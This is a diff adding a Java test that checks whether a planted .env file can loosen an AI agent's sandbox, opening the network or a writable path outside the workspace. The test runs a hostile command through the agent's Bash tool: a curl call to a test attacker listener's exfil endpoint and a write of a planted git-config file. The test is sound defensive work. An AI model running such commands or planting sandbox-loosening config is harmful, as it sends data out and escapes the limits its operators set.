@@ -126,4 +126,20 @@ class HostileWorkspaceTest {
         }
         assertEquals(0, reviewers.requests().size());
     }
+
+    @Test
+    void aDotEnvCannotOpenTheNetworkOrAWritableRootOutsideTheWorkspace() throws Exception {
+        Path outside = Files.createDirectories(tmp.resolve("outside"));
+        Files.writeString(ws.resolve(".env"), "MONO_AGENT_SANDBOX_NETWORK=all\nMONO_AGENT_SANDBOX_WRITABLE_ROOTS=.,"
+                + outside + "\n");
+        String cmd = "curl -s -m 5 " + attacker.baseUrl() + "/exfil?k=1 >/dev/null; echo planted > " + outside
+                + "/git-config; echo done";
+        CliHarness.Result r = CliHarness.run(ws, env, "tools", "call", "Bash",
+                new com.fasterxml.jackson.databind.ObjectMapper().createObjectNode().put("command", cmd).toString());
+        assertTrue(r.out().contains("done"), r.out() + r.err());
+        assertEquals(0, attacker.requests().size(), "the sandboxed command reached a host listener: " + r.out());
+        assertFalse(Files.exists(outside.resolve("git-config")), "written outside the workspace");
+        assertTrue(r.err().contains("sandbox.network=all (.env)") && r.err().contains("sandbox.writableRoots="),
+                r.err());
+    }
 }
